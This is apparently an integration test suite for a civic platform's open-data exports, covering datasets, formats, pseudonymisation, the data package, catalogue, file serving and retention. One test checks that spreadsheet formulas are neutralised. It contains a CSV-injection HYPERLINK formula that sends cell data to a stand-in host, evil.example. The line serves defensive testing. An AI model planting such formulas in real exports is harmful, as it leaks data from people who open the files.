import { Role } from '@quorum/access';
import { createHash } from 'node:crypto';
import { createReadStream } from 'node:fs';
import { rawGet } from '../utils/raw-http';
import { join } from 'node:path';
import { gunzipSync } from 'node:zlib';
import {
  authorPseudonym,
  csvCopySource,
  DatasetDefinition,
  ExportOpenDataProcessor,
  NIGHTLY_EXPORT_PATTERN,
  NIGHTLY_EXPORT_SCHEDULER,
  pseudonymSql,
  DataPackage,
  OPEN_DATASETS,
  OpenDataExporter,
  OpenDataRetention,
  validateDataPackage,
} from '@quorum/open-data';
import { pabulibToProfile, parsePabulib, tally, type EqualSharesTrace, type GreedyTrace } from '@quorum/tally';
import { engineRuleOf, TallyRule } from '@quorum/budgets';
import { parse } from 'csv-parse/sync';
import { Readable } from 'node:stream';
import type { PoolClient } from 'pg';
import { BALLOTS } from '../../libs/open-data/src/datasets/ballots.dataset';
import { JobQueue, QueueName } from '@quorum/queue';
import { createUser } from '../utils/users.factory';
import { zipEntries } from '../utils/zip-entries';
import {
  FORMULA_BODY,
  FORMULA_TITLE,
  OpenDataSeed,
  OpenDataTestBed,
  startOpenDataTestBed,
} from '../utils/open-data.factory';
import { TestApi } from '../utils/test-api';
import { waitFor } from '../utils/wait-for';

const REQUEST = `mutation($input: RequestExportInput!) { requestExport(input: $input) { id status progress dataset format } }`;
const JOB = `query($id: ID!) { exportJob(id: $id) { id status progress publishedFiles error finishedAt } }`;

describe('open data: datasets, formats, catalogue and exports', () => {
  let bed: OpenDataTestBed;
  let api: TestApi;
  let seed: OpenDataSeed;
  let dir: string;
  const download = (name: string, headers: Record<string, string> = {}): Promise<Response> =>
    fetch(`${api.url}/open-data/files/${name}`, { headers });
  const text = async (name: string): Promise<string> => (await download(name)).text();
  const rowsOf = async (name: string): Promise<Record<string, string>[]> =>
    parse(await text(name), { columns: true }) as Record<string, string>[];

  beforeAll(async () => {
    // Publishing the result enqueued a full export; the worker has run it.
    bed = await startOpenDataTestBed();
    ({ api, seed, dir } = bed);
  }, 120_000);
  afterAll(async () => {
    await bed.close();
  });

  it('publishes every dataset in each of its formats, the budget .pb, the package and the zip after a published tally', async () => {
    const names = (await api.db.query(`SELECT DISTINCT file_name FROM open_data_files ORDER BY 1`)).map(
      (r: { file_name: string }) => r.file_name,
    );
    const expected = [
      ...OPEN_DATASETS.flatMap((d) => d.formats.map((f) => `${d.name}.${f}`)),
      `budget-${seed.budgetId}.pb`,
      'datapackage.json',
      'quorum-open-data.zip',
    ];
    expect(names.sort()).toEqual(expected.sort());
  });

  it.each(OPEN_DATASETS.map((d) => [d.name, d] as const))(
    '%s: the same rows in CSV, JSON (and GeoJSON), typed by its schema, counted in the catalogue',
    async (_name, dataset) => {
      const csv = await rowsOf(`${dataset.name}.csv`);
      expect(csv.length).toBeGreaterThan(0);
      expect(Object.keys(csv[0])).toEqual(dataset.fields.map((f) => f.name));
      const key = dataset.fields[0].name;
      const json: Record<string, unknown>[] = JSON.parse(await text(`${dataset.name}.json`));
      expect(json.map((r) => r[key])).toEqual(csv.map((r) => r[key]));
      for (const f of dataset.fields.filter((f) => f.type === 'integer' || f.type === 'boolean'))
        expect(
          json.every((r) => r[f.name] === null || typeof r[f.name] === (f.type === 'integer' ? 'number' : 'boolean')),
        ).toBe(true);
      const counted = await api.db.query(
        `SELECT DISTINCT ON (file_name) file_name, rows FROM open_data_files WHERE dataset = $1 ORDER BY file_name, created_at DESC`,
        [dataset.name],
      );
      const rows = Object.fromEntries(counted.map((c: { file_name: string; rows: number }) => [c.file_name, c.rows]));
      expect(rows[`${dataset.name}.csv`]).toBe(csv.length);
      expect(rows[`${dataset.name}.json`]).toBe(csv.length);
      if (!dataset.geometry) return;
      const located = csv.filter((r) => r[dataset.geometry!.latitude] !== '' && r[dataset.geometry!.longitude] !== '');
      const geo = JSON.parse(await text(`${dataset.name}.geojson`));
      expect(geo.features.map((f: { id: string }) => f.id)).toEqual(located.map((r) => r.id));
      expect(rows[`${dataset.name}.geojson`]).toBe(located.length);
    },
  );

  it('proposals: published and visible only, with category, district, location, answer, supports and a pseudonymous author', async () => {
    const rows = await rowsOf('proposals.csv');
    expect(rows.map((r) => r.id).sort()).toEqual([...seed.visibleProposalIds].sort());
    const first = rows.find((r) => r.id === seed.visibleProposalIds[0])!;
    expect(first).toMatchObject({
      title: 'Piste cyclable "rue 0", quai; virgule',
      body: 'Ligne 1\nLigne 2 avec « guillemets » et "quotes"',
      category: 'Mobilité',
      status: 'ACCEPTED',
      official_answer: 'Nous le ferons.',
      support_count: '2',
      producer_name: 'Toulouse',
      producer_siren: '213105554',
    });
    expect(first.created_at).toMatch(/^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\dZ$/);
    const [author] = await api.db.query(`SELECT author_id FROM proposals WHERE id = $1`, [first.id]);
    expect(first.author_pseudonym).toBe(authorPseudonym(api.config.openData.pseudonymSecret, author.author_id));
    expect(Object.keys(first)).not.toContain('address');
    // The SQL HMAC is HMAC-SHA256 for any key length (keys longer than the 64-byte block are hashed first).
    for (const secret of ['k', 'x'.repeat(64), 'clé secrète '.repeat(9)]) {
      const [row] = await api.db.query(`SELECT ${pseudonymSql(secret, '$1::uuid')} AS p`, [author.author_id]);
      expect(row.p).toBe(authorPseudonym(secret, author.author_id));
    }

    const json = JSON.parse(await text('proposals.json'));
    expect(json).toHaveLength(3);
    expect(json.find((p: { id: string }) => p.id === first.id)).toMatchObject({ support_count: 2, latitude: 43.6045 });
    const geo = JSON.parse(await text('proposals.geojson'));
    expect(geo.type).toBe('FeatureCollection');
    expect(geo.features).toHaveLength(2); // the third has no position
    expect(geo.features[0].geometry.type).toBe('Point');
    expect(geo.features[0].geometry.coordinates[0]).toBeCloseTo(1.4442, 4); // longitude first (RFC 7946)
  });

  it('neutralises spreadsheet formulas in every CSV, quoting text cells, and keeps JSON as written (issue #14.4)', async () => {
    const id = seed.visibleProposalIds[2];
    const csv = await text('proposals.csv');
    expect(csv).toContain(`"'=HYPERLINK(""https://evil.example/?d=""&A1,""Voir"")"`);
    expect(csv).not.toMatch(/(^|,)"?[=+@-]/m);
    const row = (await rowsOf('proposals.csv')).find((r) => r.id === id)!;
    expect(row).toMatchObject({ title: `'${FORMULA_TITLE}`, body: `'${FORMULA_BODY}` });
    // Every text cell is quoted; numbers are not.
    expect(csv).toMatch(/,"ACCEPTED","Nous le ferons\.",\d{4}-\d\d-\d\dT[\d:]+Z,2,"[^"]+",/);
    const json = JSON.parse(await text('proposals.json')).find((p: { id: string }) => p.id === id);
    expect(json).toMatchObject({ title: FORMULA_TITLE, body: FORMULA_BODY });
    // Through COPY itself, each trigger, NULL, and a generated receipt that starts with '-' (kept as is).
    const dataset: DatasetDefinition = {
      ...BALLOTS,
      fields: [
        { ...BALLOTS.fields[0], name: 'receipt' },
        { name: 'text', type: 'string', description: { fr: '', en: '' } },
        { name: 'n', type: 'integer', description: { fr: '', en: '' } },
      ],
    };
    const select = `SELECT '-F31eyOy' AS receipt, t AS text, -1 AS n FROM unnest(ARRAY['=1', '+1', '-1', '@1', chr(9) || '1', chr(13) || '1', 'a=1', NULL]) WITH ORDINALITY AS x(t, i) ORDER BY i`;
    const runner = api.db.createQueryRunner();
    try {
      const source = csvCopySource((await runner.connect()) as PoolClient, dataset, select);
      const chunks: Buffer[] = [];
      for await (const chunk of source.stream) chunks.push(chunk as Buffer);
      expect(Buffer.concat(chunks).toString('utf8')).toBe(
        'receipt,text,n\n' +
          [`"'=1"`, `"'+1"`, `"'-1"`, `"'@1"`, `"'\t1"`, `"'\r1"`, '"a=1"', '']
            .map((cell) => `"-F31eyOy",${cell},-1\n`)
            .join(''),
      );
    } finally {
      await runner.release();
    }

    const zip = zipEntries(Buffer.from(await (await download('quorum-open-data.zip')).arrayBuffer()));
    const readme = zip.get('README.md')!.toString('utf8');
    expect(readme).toContain('formule');
    expect(readme).toContain('formula');
  });

  it('daily supports, consultations and moderation counts', async () => {
    const daily = await rowsOf('proposal-daily-supports.csv');
    const first = daily.filter((r) => r.proposal_id === seed.visibleProposalIds[0]);
    expect(first.map((r) => r.cumulative_supports)).toEqual(['1', '2']);
    expect(daily.some((r) => seed.unpublishedProposalIds.includes(r.proposal_id))).toBe(false);
    const consultations = await rowsOf('consultations.csv');
    expect(consultations.map((c) => c.id)).toEqual([seed.consultationId]);
    expect(consultations[0].phases).toMatch(/^PROPOSALS \S+\/\S+; SUPPORTS/);
    expect(await rowsOf('moderation-counts.csv')).toEqual([
      expect.objectContaining({ content_type: 'PROPOSAL', reported_items: '1', hidden_items: '1', reports: '1' }),
    ]);
  });

  it('budgets, projects, results per rule with the digest, and anonymous ballots', async () => {
    const [result] = await api.db.query(`SELECT winners, ballots_digest, ballot_count FROM budget_results`);
    expect((await rowsOf('budgets.csv')).map((b) => [b.id, b.status])).toEqual([[seed.budgetId, 'PUBLISHED']]);
    const projects = await rowsOf('budget-projects.csv');
    expect(projects).toHaveLength(5);
    expect(
      projects
        .filter((p) => p.selected === 'true')
        .map((p) => p.id)
        .sort(),
    ).toEqual([...result.winners].sort());
    const results = await rowsOf('budget-results.csv');
    expect(results.map((r) => [r.rule, r.is_official])).toEqual([
      ['EQUAL_SHARES', 'true'],
      ['GREEDY', 'false'],
    ]);
    expect(results[0]).toMatchObject({ winners: result.winners.join(' '), ballots_digest: result.ballots_digest });
    const ballots = await rowsOf('ballots.csv');
    expect(ballots.map((b) => b.receipt).sort()).toEqual([...seed.receipts].sort());
    expect(Object.keys(ballots[0])).toEqual([
      'receipt',
      'budget_id',
      'project_ids',
      'points',
      'voting_method',
      'voting_closed_on',
      'producer_name',
      'producer_siren',
    ]);
    expect(ballots[0].voting_closed_on).toMatch(/^\d{4}-\d\d-\d\d$/);
    expect(JSON.parse(await text('ballots.json'))).toHaveLength(seed.receipts.length);
  });

  it('issue reports with their updates, located, without reporter, description or address', async () => {
    const reports = await rowsOf('issue-reports.csv');
    expect(reports.map((r) => r.id).sort()).toEqual([...seed.reportIds].sort());
    expect(Object.keys(reports[0])).not.toEqual(expect.arrayContaining(['description']));
    const geo = JSON.parse(await text('issue-reports.geojson'));
    expect(geo.features).toHaveLength(2);
    expect(geo.features[0].properties).not.toHaveProperty('latitude');
    const updates = await rowsOf('issue-report-updates.csv');
    expect(updates).toEqual([expect.objectContaining({ status: 'ACKNOWLEDGED', note: 'Pris en compte, merci.' })]);
    expect(Object.keys(updates[0])).not.toContain('author_id');
  });

  it('tracked winners with their news, and the deliberation in the SCDL columns', async () => {
    const items = await rowsOf('tracked-items.csv');
    expect(items.map((r) => r.id).sort()).toEqual([...seed.trackedItemIds].sort());
    expect(items.find((r) => r.id === seed.trackedItemIds[0])).toMatchObject({
      source_type: 'BUDGET_PROJECT',
      budget_id: seed.budgetId,
      status: 'IN_WORKS',
      progress_percent: '30',
      committed_cents: '4000000',
      spent_cents: '0',
      department: 'Voirie',
      latitude: '43.6045',
      longitude: '1.4442',
    });
    // On the map when placed (the other winners are not).
    const geo = JSON.parse(await text('tracked-items.geojson'));
    expect(geo.features.map((f: { id: string }) => f.id)).toEqual([seed.trackedItemIds[0]]);
    expect(geo.features[0].geometry.coordinates).toEqual([1.4442, 43.6045]);
    const updates = await rowsOf('tracked-item-updates.csv');
    // The news starts with '@': neutralised in CSV like every text the platform writes.
    expect(updates).toEqual([
      expect.objectContaining({
        tracked_item_id: seed.trackedItemIds[0],
        occurred_on: '2026-05-04',
        body: `'${FORMULA_BODY}`,
      }),
    ]);
    const [deliberation] = await rowsOf('tracked-item-deliberations.csv');
    expect(Object.keys(deliberation).slice(0, 17)).toEqual([
      'COLL_NOM',
      'COLL_SIRET',
      'DELIB_ID',
      'DELIB_DATE',
      'DELIB_MATIERE_CODE',
      'DELIB_MATIERE_NOM',
      'DELIB_OBJET',
      'BUDGET_ANNEE',
      'BUDGET_NOM',
      'PREF_ID',
      'PREF_DATE',
      'VOTE_EFFECTIF',
      'VOTE_REEL',
      'VOTE_POUR',
      'VOTE_CONTRE',
      'VOTE_ABSTENTION',
      'DELIB_URL',
    ]);
    expect(deliberation).toMatchObject({
      COLL_NOM: 'Toulouse',
      DELIB_ID: 'DEL-2026-031',
      DELIB_DATE: '2026-03-12',
      DELIB_MATIERE_CODE: '7.1',
      VOTE_POUR: '45',
      DELIB_URL: 'https://www.toulouse.fr/deliberations/2026-03-12-7-1.pdf',
      tracked_item_id: seed.trackedItemIds[0],
    });
  });

  it('the budget .pb carries the budget id, hashes to the stored digest and recounts to the published winners with libs/tally', async () => {
    const bytes = Buffer.from(await (await download(`budget-${seed.budgetId}.pb`)).arrayBuffer());
    const [stored] = await api.db.query(
      `SELECT r.winners, r.ballots_digest, b.tally_rule, b.add1_completion, b.ballot_type
         FROM budget_results r JOIN budgets b ON b.id = r.budget_id`,
    );
    const file = parsePabulib(bytes.toString('utf8'));
    expect(file.meta.budget_id).toBe(seed.budgetId);
    expect(file.votes.map((v) => v.voterId).sort()).toEqual([...seed.receipts].sort());
    expect(createHash('sha256').update(bytes).digest('hex')).toBe(stored.ballots_digest);
    const rule = engineRuleOf(stored.tally_rule, stored.add1_completion, stored.ballot_type);
    expect(tally(pabulibToProfile(file), rule).winners).toEqual(stored.winners);
  });

  it('why each project won or lost: the explanation columns and rows are what libs/tally explains recounting the .pb', async () => {
    const bytes = Buffer.from(await (await download(`budget-${seed.budgetId}.pb`)).arrayBuffer());
    const [stored] = await api.db.query(
      `SELECT b.tally_rule, b.add1_completion, b.ballot_type FROM budget_results r JOIN budgets b ON b.id = r.budget_id`,
    );
    const profile = pabulibToProfile(parsePabulib(bytes.toString('utf8')));
    const rule = engineRuleOf(stored.tally_rule, stored.add1_completion, stored.ballot_type);
    const main = tally(profile, rule, { explain: true }).explanation!;
    const greedy = tally(profile, engineRuleOf(TallyRule.GREEDY, false, stored.ballot_type), {
      explain: true,
    }).explanation!;
    const [official, comparison] = await rowsOf('budget-results.csv');
    expect(Number(official.voters_with_funded)).toBe(main.figures.votersWithFunded);
    expect(Number(official.average_funded)).toBeCloseTo(main.figures.averageFunded, 10);
    expect(Number(comparison.share_with_funded)).toBeCloseTo(greedy.figures.shareWithFunded, 10);
    const trace = main.trace as EqualSharesTrace;
    expect(Number(official.per_voter_budget)).toBe(trace.perVoterBudget);
    expect(official.add1_increment).toBe(String(trace.add1Increment));

    const rows = await rowsOf('budget-result-projects.csv');
    const officialRows = rows.filter((r) => r.is_official === 'true');
    expect(officialRows.map((r) => r.project_id)).toEqual(trace.projects.map((p) => p.id).sort());
    for (const p of trace.projects) {
      const row = officialRows.find((r) => r.project_id === p.id)!;
      expect(row.outcome).toBe(p.outcome);
      if (p.outcome === 'funded') {
        expect(Number(row.round)).toBe(p.round);
        const payments = p.payments.map((l) => `${l.amount}:${l.voters}:${l.paidAll ? 'all' : 'share'}`).join(';');
        expect(row.payments).toBe(payments);
      }
      if (p.outcome === 'unfunded') {
        expect(Number(row.supporters_held)).toBe(p.supportersHeld);
        expect(Number(row.effective_support)).toBe(p.effectiveSupport);
        expect(Number(row.dropped_at_round)).toBe(p.droppedAtRound);
      }
    }
    const greedyRows = rows.filter((r) => r.is_official === 'false');
    for (const p of (greedy.trace as GreedyTrace).projects) {
      const row = greedyRows.find((r) => r.project_id === p.id)!;
      expect(Number(row.greedy_position)).toBe(p.position);
      if (p.outcome === 'unfunded') expect(row.taken_by).toBe(p.takenBy ?? '');
    }
  });

  it('the data package validates: every CSV matches its Table Schema, every size and SHA-256 matches', async () => {
    const pkg: DataPackage = JSON.parse(await text('datapackage.json'));
    expect(pkg.licenses[0].name).toBe('etalab-2.0');
    const csvs = pkg.resources.filter((r) => r.format === 'csv');
    expect(csvs.map((r) => r.path).sort()).toEqual(OPEN_DATASETS.map((d) => `${d.name}.csv`).sort());
    for (const r of csvs) expect(r.schema!.fields.every((f) => f.description.includes(' / '))).toBe(true);
    const open = async (path: string): Promise<Readable> =>
      Readable.from([Buffer.from(await (await download(path)).arrayBuffer())]);
    expect(await validateDataPackage(pkg, open)).toEqual([]);

    // The check is real: a value of the wrong type, a missing required value and a changed byte are all caught.
    const tampered = async (path: string): Promise<Readable> => {
      if (path !== 'budgets.csv') return open(path);
      const csv = (await text(path)).replace(',1000,', ',mille,');
      return Readable.from([Buffer.from(csv)]);
    };
    const problems = await validateDataPackage(pkg, tampered);
    expect(problems).toEqual(
      expect.arrayContaining([
        expect.stringContaining('total_amount "mille" is not a integer'),
        expect.stringContaining('budgets.csv: hash'),
      ]),
    );
  });

  it('the zip holds every file, datapackage.json, a bilingual README and the licence', async () => {
    const zip = Buffer.from(await (await download('quorum-open-data.zip')).arrayBuffer());
    const entries = zipEntries(zip);
    const names = [...entries.keys()];
    const readme = entries.get('README.md')!.toString('utf8');
    for (const d of OPEN_DATASETS)
      for (const f of d.fields)
        expect(readme).toContain(`| \`${f.name}\` | ${f.type} | ${f.description.fr} | ${f.description.en} |`);
    expect(entries.get('LICENCE.txt')!.toString('utf8')).toContain('Licence Ouverte');
    const files: { file_name: string }[] = await api.db.query(
      `SELECT DISTINCT file_name FROM open_data_files WHERE dataset <> 'data-package'`,
    );
    expect(names.sort()).toEqual(
      [...files.map((f) => f.file_name), 'datapackage.json', 'README.md', 'LICENCE.txt'].sort(),
    );
  });

  it('a second export of unchanged data is byte-identical and publishes nothing new', async () => {
    const before = await api.db.query(`SELECT file_name, sha256 FROM open_data_files ORDER BY file_name, created_at`);
    const summary = await api.app.get(OpenDataExporter).run({}, 'test');
    expect(summary.published).toEqual([]);
    expect(await api.db.query(`SELECT file_name, sha256 FROM open_data_files ORDER BY file_name, created_at`)).toEqual(
      before,
    );
  });

  it('each published version has a public audit entry; the catalogue page shows the audit head', async () => {
    // One entry per version published; an entry stays when the retention deletes its version (the log is append-only).
    const count = (keys: string[]) => keys.reduce((m, k) => m.set(k, (m.get(k) ?? 0) + 1), new Map<string, number>());
    const versions = count(
      (await api.db.query(`SELECT file_name, sha256 FROM open_data_files`)).map(
        (v: { file_name: string; sha256: string }) => `${v.file_name} ${v.sha256}`,
      ),
    );
    const entries = count(
      (
        await api.db.query(
          `SELECT subject_id, payload FROM audit_entries WHERE action = 'open-data.publish' AND is_public`,
        )
      ).map((e: { subject_id: string; payload: string }) => `${e.subject_id} ${JSON.parse(e.payload).sha256}`),
    );
    expect(versions.size).toBeGreaterThan(0);
    for (const [version, n] of versions)
      expect([version, Math.min(n, entries.get(version) ?? 0)]).toEqual([version, n]);
    const published = new Set([...versions.keys()].map((v) => v.split(' ')[0]));
    for (const entry of entries.keys()) expect(published).toContain(entry.split(' ')[0]);
    const [head] = await api.db.query(`SELECT sequence, hash FROM audit_entries ORDER BY sequence DESC LIMIT 1`);
    const page = await fetch(`${api.url}/open-data`);
    expect(page.headers.get('content-type')).toContain('text/html');
    const html = await page.text();
    expect(html).toContain('<html lang="fr">');
    expect(html).toContain(head.hash);
    for (const d of OPEN_DATASETS) expect(html).toContain(`href="/open-data/files/${d.name}.csv"`);
    expect(html).toContain('Licence Ouverte');
  });

  it('the DCAT-AP catalogue lists each file as a distribution with its download URL and format', async () => {
    const response = await fetch(`${api.url}/open-data/catalog.jsonld`);
    expect(response.headers.get('content-type')).toContain('application/ld+json');
    const catalog = (await response.json()) as Record<string, any>;
    expect(catalog['@type']).toBe('dcat:Catalog');
    const distributions = catalog['dcat:dataset'].flatMap(
      (d: { 'dcat:distribution': unknown[] }) => d['dcat:distribution'],
    );
    const urls = distributions.map((d: { 'dcat:downloadURL': { '@id': string } }) => d['dcat:downloadURL']['@id']);
    expect(urls).toContain(`${api.config.http.publicUrl}/open-data/files/budget-${seed.budgetId}.pb`);
    expect(urls).toContain(`${api.config.http.publicUrl}/open-data/files/proposals.geojson`);
    for (const d of distributions) expect(d['dct:format']).toMatch(/^(CSV|JSON|GEOJSON|PB|ZIP)$/);
  });

  it('serves files with Content-Length, ETag, Last-Modified, Range and gzip, without login', async () => {
    const identity = { 'accept-encoding': 'identity' };
    const whole = await download('ballots.csv', identity);
    const body = Buffer.from(await whole.arrayBuffer());
    expect(whole.status).toBe(200);
    expect(whole.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(Number(whole.headers.get('content-length'))).toBe(body.length);
    expect(whole.headers.get('last-modified')).toBeTruthy();
    const etag = whole.headers.get('etag')!;
    expect(etag).toBeTruthy();
    // fetch() adds Cache-Control: no-cache to conditional requests, which rightly defeats them.
    expect((await rawGet(`${api.url}/open-data/files/ballots.csv`, { 'if-none-match': etag })).status).toBe(304);

    const part = await download('ballots.csv', { range: 'bytes=0-9' }); // a Range is never gzipped
    expect(part.status).toBe(206);
    expect(part.headers.get('content-range')).toBe(`bytes 0-9/${body.length}`);
    expect(Buffer.from(await part.arrayBuffer())).toEqual(body.subarray(0, 10));

    // fetch() would decompress silently; a raw request shows the encoding.
    const gz = await rawGet(`${api.url}/open-data/files/ballots.csv`, { 'accept-encoding': 'gzip' });
    expect(gz.headers['content-encoding']).toBe('gzip');
    expect(gunzipSync(gz.body)).toEqual(body);

    expect((await download('nothing.csv')).status).toBe(404);
    expect((await download('ballots.csv?version=zz')).status).toBe(404);
  });

  it('staff request an export and follow its job to completion; residents cannot', async () => {
    const gql = api.gql.as(seed.staff.token);
    const { requestExport } = await gql.ok(REQUEST, { input: { dataset: 'PROPOSALS', format: 'GEOJSON' } });
    expect(requestExport).toMatchObject({ dataset: 'PROPOSALS', format: 'GEOJSON' });
    const done = await waitFor(
      async () => {
        const { exportJob } = await gql.ok(JOB, { id: requestExport.id });
        return exportJob.status === 'COMPLETED' ? exportJob : undefined;
      },
      30_000,
      'requested export',
    );
    expect(done).toMatchObject({ progress: 100, publishedFiles: [], error: null });
    expect(await gql.errorCode(REQUEST, { input: { dataset: 'BUDGETS', format: 'GEOJSON' } })).toBe(
      'VALIDATION_FAILED',
    );
    const resident = await createUser(api, { role: Role.RESIDENT });
    expect(
      await api.gql.as(resident.token).errorCode(REQUEST, { input: { dataset: 'PROPOSALS', format: 'CSV' } }),
    ).toBe('FORBIDDEN');
    expect(await api.gql.errorCode(JOB, { id: requestExport.id })).toBe('UNAUTHENTICATED');
    expect(await gql.errorCode(JOB, { id: 'tally-x' })).toBe('NOT_FOUND');
  });

  it('the worker schedules the nightly export, which exports everything then applies retention', async () => {
    const schedulers = await api.app.get(JobQueue).queue(QueueName.OPEN_DATA).getJobSchedulers();
    expect(schedulers).toEqual([
      expect.objectContaining({ key: NIGHTLY_EXPORT_SCHEDULER, pattern: NIGHTLY_EXPORT_PATTERN }),
    ]);
    const progress: number[] = [];
    const result = await bed.worker.app
      .get(ExportOpenDataProcessor)
      .handle({ reason: 'nightly' }, { updateProgress: async (p: number) => void progress.push(p) });
    // Every dataset in each format, and the one published budget's .pb; unchanged, so nothing new.
    const files = OPEN_DATASETS.reduce((n, d) => n + d.formats.length, 0) + 1;
    expect(result).toEqual({ files, published: [], purged: 0, withdrawn: 0 });
    expect(progress[progress.length - 1]).toBe(100);
  });

  it('keeps older versions for the retention period, then deletes them; the current version always stays', async () => {
    const proposalId = seed.visibleProposalIds[0];
    const [{ title }] = await api.db.query(`SELECT title FROM proposals WHERE id = $1`, [proposalId]);
    await api.db.query(`UPDATE proposals SET title = 'Titre modifié' WHERE id = $1`, [proposalId]);
    const exporter = api.app.get(OpenDataExporter);
    try {
      await exporter.run({ dataset: 'proposals', format: 'csv' }, 'test');
      const versions = await api.db.query(
        `SELECT sha256 FROM open_data_files WHERE file_name = 'proposals.csv' ORDER BY created_at`,
      );
      expect(versions).toHaveLength(2);
      const old = await download(`proposals.csv?version=${versions[0].sha256}`);
      expect(await old.text()).not.toContain('Titre modifié');
      expect(await text('proposals.csv')).toContain('Titre modifié');

      const retention = api.app.get(OpenDataRetention);
      expect(await retention.purge()).toBe(0); // superseded just now: kept
      const later = new Date(Date.now() + 31 * 24 * 3600 * 1000);
      expect(await retention.purge(later)).toBeGreaterThanOrEqual(1);
      expect((await download(`proposals.csv?version=${versions[0].sha256}`)).status).toBe(404);
      expect(await text('proposals.csv')).toContain('Titre modifié');
      await expect(readable(join(dir, 'files', `${versions[0].sha256}.csv`))).resolves.toBe(false);
    } finally {
      // The other tests read the published files of the seed as it was: put it back and publish it again.
      await api.db.query(`UPDATE proposals SET title = $2 WHERE id = $1`, [proposalId, title]);
      await exporter.run({}, 'test');
    }
  });
});

function readable(path: string): Promise<boolean> {
  return new Promise((resolve) => {
    const stream = createReadStream(path);
    stream.on('open', () => {
      stream.destroy();
      resolve(true);
    });
    stream.on('error', () => resolve(false));
  });
}
